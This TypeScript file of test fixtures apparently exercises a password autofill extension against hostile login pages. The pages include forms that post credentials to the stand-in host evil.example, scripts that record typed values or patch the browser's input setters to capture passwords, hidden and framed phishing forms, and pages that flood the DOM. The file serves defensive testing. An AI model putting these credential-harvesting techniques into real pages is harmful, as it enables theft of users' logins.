interface Page {
  readonly markup: string
  readonly headers?: Readonly<Record<string, string>>
}

export const evil = 'evil.example'
export const webmailHost = 'mail.thexyz.com'

/** What a page sees of its own boxes, kept where a test can read it. */
const spy = `<script>
  var seen = []
  var note = () => document.querySelectorAll('input, textarea').forEach((box) => box.value && seen.push(box.value))
  for (const name of ['input', 'change', 'keydown', 'focusin']) addEventListener(name, note, true)
</script>`

const user = '<p><input name=username autocomplete=username aria-label="E-mail address"></p>'
const secretBox =
  '<p><input type=password name=password autocomplete=current-password aria-label=Password></p>'

/** A login form as any webmail has it, with one thing about it that is not as it should be. */
const login = ({
  form = 'method=post action=/login',
  boxes = user + secretBox,
  button = '<button>Log in</button>',
  more = '',
} = {}): Page => ({
  markup: `${spy}<body><form ${form} style="margin:160px 80px">${boxes}${button}</form>${more}</body>`,
})
const script = (code: string) => `<script>${code}</script>`
const framing = (frame: string): Page => ({ markup: `${spy}<body><p>Welcome</p>${frame}</body>` })
const framed = 'style="width:700px;height:420px;border:0"'
const pageInside = login().markup.replaceAll('"', '&quot;')

/** Text boxes that stand in a login form and are not for its password. */
const other = (name: string, attributes: string) =>
  `<p><input name=${name} ${attributes} aria-label=${name}></p>`

export const pages: Readonly<Record<string, Page>> = {
  plain: login(),
  nothing: { markup: `${spy}<body><p>Nothing to sign in to</p></body>` },
  // Line 10: the form, and so the chip, is only there once the page was clicked.
  appearing: login({
    more: script(`document.forms[0].hidden = true; onmousedown = () => { document.forms[0].hidden = false }`),
  }),
  // Line 9.
  'frames-the-webmail': framing(
    `<iframe ${framed.replace('border:0', 'border:0;opacity:.01')} src=https://${webmailHost}/hostile/plain></iframe>`,
  ),
  // Lines 13 and 14.
  'frames-another': framing(`<iframe ${framed} src=https://${evil}/hostile/plain></iframe>`),
  'form-and-frame': login({ more: `<iframe ${framed} src=https://${evil}/hostile/plain></iframe>` }),
  'frames-itself': framing(`<iframe ${framed} src=/hostile/plain></iframe>`),
  'frames-sandboxed': framing(
    `<iframe ${framed} sandbox="allow-scripts allow-forms" src=/hostile/plain></iframe>`,
  ),
  'frames-srcdoc': framing(`<iframe ${framed} srcdoc="${pageInside}"></iframe>`),
  'frames-blank': framing(
    `<iframe ${framed} src=about:blank></iframe>${script(`inside = document.querySelector('iframe').contentDocument; inside.write('<form method=post><input name=username><input type=password name=password><button>Log in</button></form>'); inside.close()`)}`,
  ),
  'frames-blob': framing(
    `<iframe ${framed}></iframe>${script(`document.querySelector('iframe').src = URL.createObjectURL(new Blob(['<form method=post><input name=username><input type=password name=password><button>Log in</button></form>'], { type: 'text/html' }))`)}`,
  ),
  'frames-data': framing(
    `<iframe ${framed} src="data:text/html,<form method=post><input name=username><input type=password name=password><button>Log in</button></form>"></iframe>`,
  ),
  'opens-blob': framing(
    script(
      `onclick = () => { location = 'about:blank' }; blob = URL.createObjectURL(new Blob([${JSON.stringify(login().markup.replaceAll('</script>', '<\\/script>'))}], { type: 'text/html' }))`,
    ),
  ),
  /** A message's attachment that the webmail shows from its own host, shut off as it should be. */
  sandboxed: { ...login(), headers: { 'content-security-policy': 'sandbox allow-scripts allow-forms' } },
  // Line 21.
  'action-elsewhere': login({ form: `method=post action=https://${evil}/login` }),
  'action-other-port': login({ form: `method=post action=https://${webmailHost}:8443/login` }),
  'action-http': login({ form: `method=post action=http://${webmailHost}/login` }),
  'action-javascript': login({ form: 'method=post action="javascript:void 0"' }),
  'action-mailto': login({ form: 'method=post action=mailto:mallory@evil.example' }),
  'action-sibling': login({ form: 'method=post action=https://www.thexyz.com/login' }),
  'button-elsewhere': login({ button: `<button formaction=//${evil}>Log in</button>` }),
  'hidden-button-elsewhere': login({
    button: `<button>Log in</button><button hidden formaction=//${evil}></button>`,
  }),
  'outer-button-elsewhere': login({
    form: 'method=post action=/login id=in',
    more: `<button form=in formaction=https://${evil}/>Log in</button>`,
  }),
  'base-elsewhere': {
    markup: `<base href=https://${evil}/>${login({ form: 'method=post action=login' }).markup}`,
  },
  'clobbered-action': login({
    form: `method=post action=https://${evil}/`,
    more: '',
    button: '<input type=hidden name=action value=/login><button>Log in</button>',
  }),
  'action-turns': login({
    more: script(`addEventListener('input', () => { document.forms[0].action = 'https://${evil}/' }, true)`),
  }),
  'form-moves-boxes': login({
    more: `<form id=trap method=post action=https://${evil}/></form>${script(`addEventListener('input', () => document.querySelector('[type=password]').setAttribute('form', 'trap'), true)`)}`,
  }),
  // Line 22.
  'method-get': login({ form: 'method=get action=/login' }),
  'method-missing': login({ form: 'action=/login' }),
  'button-get': login({ button: '<button formmethod=get>Log in</button>' }),
  'clobbered-method': login({
    form: 'method=get action=/login',
    button: '<input type=hidden name=method value=post><button>Log in</button>',
  }),
  'method-missing-enter': login({ form: 'action=/login', boxes: secretBox, button: '' }),
  'method-get-apart': {
    markup: `<form id=in method=get action=/login></form><label>Username <input name=username form=in></label>
<label>Password <input type=password name=password form=in></label>
<button type=button onclick="document.forms[0].submit()">Log in</button>`,
  },
  // Line 23.
  honeypots: login({
    boxes: `${user}${secretBox}`,
    more:
      [
        'style="position:absolute;left:-9999px"',
        'style="width:1px;height:1px;padding:0;border:0"',
        'style="opacity:0"',
        'hidden',
        'style="visibility:hidden"',
      ]
        .map(
          (attributes, at) =>
            `<form method=post><input name=username${at} ${attributes}><input type=password name=password${at} ${attributes}></form>`,
        )
        .join('') +
      '<form method=post aria-hidden=true><input name=usernameA><input type=password name=passwordA></form>',
  }),
  'only-hidden': login({ form: 'method=post style="opacity:0"' }),
  'aria-hidden': login({ form: 'method=post aria-hidden=true' }),
  'off-screen': { markup: login().markup.replace('margin:160px 80px', 'position:absolute;left:-5000px') },
  'one-pixel': login({
    boxes: user + secretBox.replace('<input', '<input style="width:1px;height:1px;padding:0;border:0"'),
  }),
  'type-flips': login({
    more: script(
      `addEventListener('input', () => { document.querySelector('[name=password]').type = 'text' }, true)`,
    ),
  }),
  'type-flips-on-focus': login({
    more: script(
      `addEventListener('focus', () => { document.querySelector('[name=password]').type = 'text' }, true)`,
    ),
  }),
  // Line 24.
  'two-forms': login({ more: login().markup }),
  'six-passwords': login({
    boxes:
      user +
      Array.from({ length: 6 }, (_, at) => secretBox.replace('name=password', `name=password${at}`)).join(''),
  }),
  // Line 25.
  'sign-up': login({
    boxes:
      user +
      other('newpassword', 'type=password autocomplete=new-password') +
      other('confirm', 'type=password autocomplete=new-password'),
    button: '<button>Create account</button>',
  }),
  'new-password-alone': login({
    boxes: user + other('newpassword', 'type=password autocomplete=new-password'),
    button: '<button>Register</button>',
  }),
  'change-password': login({
    boxes:
      secretBox +
      other('newpassword', 'type=password autocomplete=new-password') +
      other('confirm', 'type=password autocomplete=new-password'),
    button: '<button>Change password</button>',
  }),
  // Line 26.
  'other-boxes': login({
    boxes:
      other('search', 'type=search') +
      user +
      secretBox +
      other('phone', 'type=tel hidden') +
      other('code', 'inputmode=numeric autocomplete=one-time-code hidden'),
  }),
  'code-in-password-box': login({ boxes: user + other('otp', 'type=password autocomplete=one-time-code') }),
  'pin-in-password-box': login({ boxes: user + other('pin', 'type=password inputmode=numeric') }),
  // Line 27.
  'too-short': login({ boxes: user + secretBox.replace('type=password', 'type=password maxlength=4') }),
  pattern: login({ boxes: user + secretBox.replace('type=password', 'type=password pattern="[0-9]{4}"') }),
  mask: login({
    more: script(
      `document.querySelector('[type=password]').addEventListener('input', ({ target }) => { target.value = target.value.slice(0, 3) })`,
    ),
  }),
  'mask-later': login({
    more: script(
      `document.querySelector('[type=password]').addEventListener('input', ({ target }) => setTimeout(() => { target.value = target.value.toUpperCase() }))`,
    ),
  }),
  // Line 31.
  clobbered: login({
    form: 'method=post action=/login id=querySelectorAll name=documentElement',
    button: `${[
      'elements',
      'submit',
      'closest',
      'getAttribute',
      'getBoundingClientRect',
      'ownerDocument',
      'matches',
    ]
      .map((name) => `<input type=hidden name=${name}>`)
      .join('')}<button>Log in</button>`,
    more: ['body', 'forms', 'chrome', 'browser', 'runtime', 'location', 'top', 'latchkey']
      .map((name) => `<a id=${name} name=${name}></a><img name=${name}>`)
      .join(''),
  }),
  // Line 32: what it learns from its patches it keeps.
  patched: {
    markup: `${script(`
      var caught = []
      var keep = (value) => caught.push(String(value))
      var value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')
      Object.defineProperty(HTMLInputElement.prototype, 'value', { configurable: true, get() { return value.get.call(this) }, set(next) { keep(next); value.set.call(this, next) } })
      var attach = Element.prototype.attachShadow
      Element.prototype.attachShadow = function (options) { keep('attachShadow'); return attach.call(this, { ...options, mode: 'open' }) }
      var listen = EventTarget.prototype.addEventListener
      EventTarget.prototype.addEventListener = function (...args) { keep('addEventListener'); return listen.apply(this, args) }
      MutationObserver = class { constructor() { keep('MutationObserver') } observe() {} disconnect() {} }
      for (const [type, name] of [[String, 'replaceAll'], [Array, 'map'], [Array, 'filter'], [Document, 'querySelectorAll'], [JSON, 'stringify']]) {
        const home = type.prototype ?? type
        const real = home[name]
        home[name] = function (...args) { keep(name); return Reflect.apply(real, this, args) }
      }
      Object.defineProperty(Object.prototype, 'password', { configurable: true, set(given) { keep(given) } })
    `)}${login().markup}`,
  },
  // Line 33.
  'long-label': login({ boxes: `<label>${'Password '.repeat(120_000)}${secretBox}</label>${user}` }),
  'many-inputs': login({ more: '<input>'.repeat(100_000) }),
  'many-passwords': login({ more: '<input type=password>'.repeat(900) }),
  'for-ever': login({
    boxes: user,
    more: `<div id=busy></div>${script(`
    var rounds = 0
    setInterval(() => { rounds++; busy.replaceChildren(...Array.from({ length: 40 }, () => document.createElement('input'))) })
  `)}`,
  }),
}
